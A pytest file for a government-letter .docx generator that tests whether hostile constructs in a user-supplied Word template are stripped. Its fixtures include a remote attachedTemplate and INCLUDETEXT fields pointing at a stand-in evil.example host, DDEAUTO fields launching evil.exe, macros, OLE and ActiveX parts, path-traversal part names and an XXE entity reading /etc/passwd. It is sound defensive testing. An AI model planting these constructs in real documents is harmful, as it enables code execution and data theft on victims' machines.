"""A template from anywhere: what an office's letterhead needs goes into documents, nothing that reaches out of them."""

from __future__ import annotations

import io
import posixpath
import re
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest
from lxml import etree

from documents import LETTER, W, part, texts
from ruralgov.errors import UserError
from ruralgov.papers.render import Look, word
from ruralgov.papers.word import package as _word_package
from ruralgov.papers.word.package import packed, unpacked
from support import ROOT

Parts = dict[str, bytes]
Change = Callable[[Parts], None]
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360606060000000050001"
    "a5f645400000000049454e44ae426082"
)
NAMESPACES = (
    f'xmlns:r="{REL}" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" xmlns:o="urn:schemas-microsoft-com:office:office"'
)


def own(folder: Path, *changes: Change) -> tuple[bytes, list[str]]:
    """The document made with the shipped template after these changes, and what was told."""
    parts = unpacked((ROOT / "templates" / "gongwen.docx").read_bytes(), "x")
    for change in changes:
        change(parts)
    (folder / "gongwen.docx").write_bytes(packed(parts))
    told: list[tuple[str, str]] = []
    data = word.write(LETTER, Look(templates=str(folder), warn=lambda *words: told.append(words)))
    return data, [zh for zh, _ in told]


def swap(name: str, old: str, new: str) -> Change:
    def change(parts: Parts) -> None:
        assert old.encode() in parts[name], (name, old)
        parts[name] = parts[name].replace(old.encode(), new.encode(), 1)

    return change


def related(source: str, kind: str, target: str, mark: str = "rId90", *, external: bool = False) -> Change:
    """A relationship more."""
    folder, _, file = source.rpartition("/")

    def change(parts: Parts) -> None:
        name = f"{folder}/_rels/{file}.rels"
        empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
        mode = ' TargetMode="External"' if external else ""
        row = f'<Relationship Id="{mark}" Type="{REL}/{kind}" Target="{target}"{mode}/></Relationships>'
        parts[name] = parts.get(name, empty).replace(b"</Relationships>", row.encode())

    return change


def added(name: str, data: bytes = b"<x/>") -> Change:
    def change(parts: Parts) -> None:
        parts[name] = data
        kind = '<Default Extension="bin" ContentType="application/octet-stream"/></Types>'
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", kind.encode())

    return change


def body(xml: str) -> Change:
    """A paragraph above the text."""
    return swap("word/document.xml", "<w:body>", f"<w:body><w:p {NAMESPACES}>{xml}</w:p>")


def both(*changes: Change) -> Change:
    def change(parts: Parts) -> None:
        for one in changes:
            one(parts)

    return change


def field(*runs: str, shown: str = "旧值") -> str:
    """A complex field whose instruction is cut into these runs."""
    inner = "".join(one if one.startswith("<") else f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in runs)
    begin, separate, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
    return f"{begin}{inner}{separate}<w:r><w:t>{shown}</w:t></w:r>{end}"


def picture(attribute: str) -> str:
    return (
        '<w:r><w:drawing><wp:inline><wp:extent cx="360000" cy="360000"/><wp:docPr id="1" name="图"/><a:graphic>'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr>'
        '<pic:cNvPr id="1" name="图"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
        f"<a:blip {attribute}/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm>"
        '<a:off x="0" y="0"/><a:ext cx="360000" cy="360000"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr>'
        "</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
    )


FOOTER = '<w:r><w:t xml:space="preserve">— </w:t></w:r>'
EVIL = "http://evil.example/x"
ATTACKS: dict[str, tuple[Change, str]] = {
    "remote template": (
        both(
            related("word/settings.xml", "attachedTemplate", f"{EVIL}.dotm", external=True),
            swap("word/settings.xml", "<w:zoom", f'<w:attachedTemplate xmlns:r="{REL}" r:id="rId90"/><w:zoom'),
        ),
        "attachedTemplate",
    ),
    "mail merge": (
        both(
            related("word/settings.xml", "mailMergeSource", f"file:///{EVIL}", external=True),
            swap("word/settings.xml", "<w:zoom", '<w:mailMerge><w:mainDocumentType w:val="catalog"/><w:query w:val="evil.example"/></w:mailMerge><w:zoom'),
        ),
        "mailMerge",
    ),
    "document variables": (swap("word/settings.xml", "<w:zoom", '<w:docVars><w:docVar w:name="a" w:val="evil.example"/></w:docVars><w:zoom'), "docVars"),
    "DDEAUTO in a footer": (swap("word/footer1.xml", FOOTER, FOOTER + field(' DDEAUTO c:\\\\evil.exe "/k calc" ')), "DDEAUTO"),
    "DDEAUTO cut in pieces": (swap("word/footer1.xml", FOOTER, FOOTER + field(" DDE", "AUTO c:\\\\evil.exe ")), "DDEAUTO"),
    "DDEAUTO in a simple field": (swap("word/footer1.xml", FOOTER, FOOTER + '<w:fldSimple w:instr="DDEAUTO evil.exe"><w:r><w:t>旧值</w:t></w:r></w:fldSimple>'), "DDEAUTO"),
    "DDEAUTO as plain text of an instruction": (body(field(" PAGE ", "<w:r><w:t>DDEAUTO evil.exe</w:t></w:r>")), "PAGE"),
    "DDEAUTO behind a page number": (body(field(' PAGE \\* MERGEFORMAT DDEAUTO "evil.exe" ')), "PAGE"),
    "a field within a field": (body(field(" PAGE ", field(' INCLUDETEXT "evil.example" '))), "PAGE"),
    "a field in the result of a field": (body(field(" PAGE ", shown="1").replace("<w:r><w:t>1</w:t></w:r>", field(" DDE evil.exe x"))), "DDE"),
    "a field that never ends": (body('<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE evil.exe x</w:instrText></w:r>'), "DDE"),
    "a field of a text box between": (
        body(
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:pict><v:shape id="s"><v:textbox><w:txbxContent><w:p>'
            '<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DATE \\@ "</w:instrText></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r>'
            '<w:r><w:instrText>DDEAUTO evil.exe"</w:instrText><w:fldChar w:fldCharType="end"/></w:r>'
        ),
        "DDEAUTO",
    ),
    "an instruction without a field": (body("<w:r><w:instrText>DDE evil.exe</w:instrText></w:r>"), ""),
    "INCLUDETEXT": (body(field(f' INCLUDETEXT "{EVIL}" ')), "INCLUDETEXT"),
    "INCLUDEPICTURE": (body(field(f' INCLUDEPICTURE "{EVIL}.png" \\d ')), "INCLUDEPICTURE"),
    "HYPERLINK": (body(field(f' HYPERLINK "{EVIL}" ')), "HYPERLINK"),
    "a link": (both(related("word/document.xml", "hyperlink", EVIL, external=True), body('<w:hyperlink r:id="rId90"><w:r><w:t>旧值</w:t></w:r></w:hyperlink>')), "hyperlink"),
    "an external picture": (both(related("word/document.xml", "image", f"{EVIL}.png", external=True), body(picture('r:link="rId90"'))), "image"),
    "an external picture of a shape": (body(f'<w:r><w:pict><v:shape id="s" href="{EVIL}"><v:imagedata src="{EVIL}" o:href="{EVIL}"/></v:shape></w:pict></w:r>'), ""),
    "a click on a picture": (
        both(
            related("word/document.xml", "image", "media/i.png", "rId91"), added("word/media/i.png", PNG),
            related("word/document.xml", "hyperlink", EVIL, external=True),
            body(picture('r:embed="rId91"').replace('<wp:docPr id="1" name="图"/>', '<wp:docPr id="1" name="图"><a:hlinkClick r:id="rId90"/></wp:docPr>')),
        ),
        "hyperlink",
    ),
    "an OLE object": (
        both(
            related("word/document.xml", "oleObject", "embeddings/evil.bin"), added("word/embeddings/evil.bin"),
            body('<w:r><w:object><v:shape id="s"/><o:OLEObject Type="Embed" ProgID="Package" r:id="rId90"/></w:object></w:r>'),
        ),
        "word/embeddings/evil.bin",
    ),
    "a control": (both(related("word/document.xml", "control", "activeX/evil.xml"), added("word/activeX/evil.xml"), body('<w:r><w:control r:id="rId90"/></w:r>')), "control"),
    "a foreign document": (
        both(
            related("word/document.xml", "aFChunk", "evil.html"), added("word/evil.html", b"<script>evil</script>"),
            swap("word/document.xml", "<w:body>", f'<w:body><w:altChunk xmlns:r="{REL}" r:id="rId90"/>'),
        ),
        "altChunk",
    ),
    "a chart": (
        both(
            related("word/document.xml", "chart", "charts/evil.xml"), added("word/charts/evil.xml"),
            body(picture("").replace("<pic:pic>", '<c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" r:id="rId90"/><pic:pic>')),
        ),
        "chart",
    ),
    "macros": (
        both(
            related("word/document.xml", "vbaProject", "vbaProject.bin"), added("word/vbaProject.bin", b"evil"),
            swap("[Content_Types].xml", "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "vnd.ms-word.document.macroEnabled.main+xml"),
        ),
        "word/vbaProject.bin",
    ),
    "a form field with a macro": (body('<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="evil"/></w:ffData></w:fldChar></w:r>' + field(" FORMTEXT ")), "FORMTEXT"),
    "names that climb": (both(related("word/document.xml", "header", "../../../evil.xml"), added("../../../evil.xml"), added("word/../../evil2.xml"), added("/etc/evil3.xml")), "../../../evil.xml"),
    "a part that is not what it is called": (both(related("word/document.xml", "image", "media/evil.exe"), added("word/media/evil.exe", b"MZ")), "word/media/evil.exe"),
    "two relationships of one id": (both(related("word/document.xml", "footer", EVIL, "rId3", external=True), related("word/footer1.xml", "image", EVIL, external=True)), "footer"),
    "custom XML": (
        both(
            related("word/document.xml", "customXml", "../customXml/item1.xml"), added("customXml/item1.xml", b"<evil/>"),
            body('<w:r><w:t>甲</w:t></w:r><w:sdt><w:sdtPr><w:dataBinding w:xpath="/evil" w:storeItemID="x"/></w:sdtPr><w:sdtContent><w:r><w:t>旧值</w:t></w:r></w:sdtContent></w:sdt>'),
        ),
        "",
    ),
    "an embedded font": (both(related("word/fontTable.xml", "font", "fonts/evil.odttf"), added("word/fonts/evil.odttf")), "word/fonts/evil.odttf"),
    "a framed page": (both(related("word/document.xml", "webSettings", "webSettings.xml"), added("word/webSettings.xml", b"<evil/>")), ""),
}  # fmt: skip


def assert_harmless(data: bytes) -> None:
    """Nothing reaches out: names, relationships and fields are those of the list."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
        assert len(parts) == len(archive.namelist())
    assert all(re.fullmatch(r"(\[Content_Types\]|[\w/.]+)\.(xml|rels|png)", name) for name in parts)
    assert not any(".." in name or name.startswith("/") for name in parts)
    for name, content in parts.items():
        assert b"evil" not in content, name
        assert b"DDE" not in content, name
        if name.endswith(".png"):
            continue
        root = etree.fromstring(content)
        if name.endswith(".rels"):
            folder = posixpath.dirname(posixpath.dirname(name))
            for node in root:
                assert node.get("TargetMode") is None
                assert posixpath.normpath(posixpath.join("/", folder, node.get("Target")))[1:] in parts
        for instruction in root.iter(f"{W}instrText"):
            assert re.fullmatch(r"\s*(PAGE|NUMPAGES|DATE)\b[^A-LN-Z]*(MERGEFORMAT)?\s*", instruction.text or "")
        marks = [node.get(f"{W}fldCharType") for node in root.iter(f"{W}fldChar")]
        assert marks.count("begin") == marks.count("end")
    docx.Document(io.BytesIO(data))


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_reaches_out_stays_out_and_is_told(tmp_path: Path, attack: str) -> None:
    change, word_told = ATTACKS[attack]
    data, told = own(tmp_path, change)
    assert_harmless(data)
    assert "关于试点工作进展情况的报告" in texts(part(data))
    if word_told:
        assert len(told) == 2, told  # the other is about control characters of the page
        assert word_told in told[0]
        assert f"{tmp_path / 'gongwen.docx'}：模板里的这些内容没有写进文件" in told[0]


def test_what_a_field_showed_stays_as_text(tmp_path: Path) -> None:
    for name in ("HYPERLINK", "a link", "custom XML", "INCLUDETEXT"):
        assert any("旧值" in text for text in texts(part(own(tmp_path, ATTACKS[name][0])[0]))), name


def test_a_letterhead_keeps_all_that_it_needs_without_a_word(tmp_path: Path) -> None:
    header = f'<w:hdr xmlns:w="{W[1:-1]}" {NAMESPACES}><w:p>{picture("r:embed=" + chr(34) + "rId1" + chr(34))}<w:r><w:t>某县人民政府</w:t></w:r></w:p></w:hdr>'
    numbering = f'<w:numbering xmlns:w="{W[1:-1]}"><w:abstractNum w:abstractNumId="0"/><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    data, told = own(
        tmp_path,
        related("word/document.xml", "header", "header1.xml", "rId50"),
        added("word/header1.xml", header.encode()),
        related("word/header1.xml", "image", "media/i.png", "rId1"),
        added("word/media/i.png", PNG),
        related("word/document.xml", "numbering", "/word/numbering.xml", "rId51"),
        added("word/numbering.xml", numbering.encode()),
        added("docProps/app.xml"),
        swap("word/document.xml", "<w:footerReference", '<w:headerReference w:type="default" r:id="rId50"/><w:footerReference'),
        swap("word/footer1.xml", " PAGE ", " NUMPAGES  \\* MERGEFORMAT "),
        swap("word/footer2.xml", FOOTER, field(' DATE \\@ "yyyy年M月d日" ')),
    )  # fmt: skip
    assert len(told) == 1  # only the control characters of the page
    assert_harmless(data)
    opened = docx.Document(io.BytesIO(data))
    assert opened.sections[0].header.paragraphs[0].text == "某县人民政府"
    (image,) = [one.target_part for one in opened.sections[0].header.part.rels.values()]
    assert image.blob == PNG
    assert "NUMPAGES" in opened.sections[0].footer._element.xml
    assert "yyyy年M月d日" in opened.sections[0].even_page_footer._element.xml


BROKEN: dict[str, tuple[Change, str]] = {
    "a footer that is no XML": (swap("word/footer1.xml", "</w:ftr>", ""), "word/footer1.xml 第"),
    "entities": (swap("word/document.xml", "<w:document", '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document'), "word/document.xml 里有 DOCTYPE"),
    "relationships that are no XML": (swap("word/_rels/document.xml.rels", "</Relationships>", ""), "document.xml.rels 第"),
    "styles elsewhere": (swap("word/_rels/document.xml.rels", 'Target="styles.xml"', 'Target="../../styles.xml"'), "缺少 word/styles.xml"),
}  # fmt: skip


@pytest.mark.parametrize("name", BROKEN)
def test_a_damaged_part_is_one_clear_error(tmp_path: Path, name: str) -> None:
    change, why = BROKEN[name]
    with pytest.raises(UserError, match=re.escape(why)):
        own(tmp_path, change)


def test_a_zip_of_too_many_parts_or_of_broken_data_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(_word_package, "MAX_PARTS", 20)
    with pytest.raises(UserError, match="多于 20 个部件"):
        own(tmp_path, *(added(f"word/a{number}.xml") for number in range(20)))
    file = tmp_path / "gongwen.docx"
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", "甲" * 5000)
    data = bytearray(file.read_bytes())
    data[50:70] = b"\xff" * 20
    file.write_bytes(data)
    with pytest.raises(UserError, match=r"不是 \.docx 文件"):
        word.write(LETTER, Look(templates=str(tmp_path)))
    with zipfile.ZipFile(file, "w", zipfile.ZIP_LZMA) as archive:
        archive.writestr("word/document.xml", "甲" * 5000)
    with pytest.raises(UserError, match=r"不是 \.docx 文件"):
        word.write(LETTER, Look(templates=str(tmp_path)))


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice")
def test_libreoffice_opens_what_is_left_of_all_of_them(tmp_path: Path) -> None:
    alone = {"two relationships of one id", "a field that never ends", "a form field with a macro"}
    data, _ = own(tmp_path, *(change for name, (change, _) in ATTACKS.items() if name not in alone))
    assert_harmless(data)
    (tmp_path / "all.docx").write_bytes(data)
    home = f"-env:UserInstallation={(tmp_path / 'home').as_uri()}"
    words = [
        "soffice",
        home,
        "--headless",
        "--convert-to",
        "pdf",
        "--outdir",
        str(tmp_path),
        str(tmp_path / "all.docx"),
    ]
    subprocess.run(words, check=True, capture_output=True, timeout=120)
    assert (tmp_path / "all.pdf").read_bytes().startswith(b"%PDF")
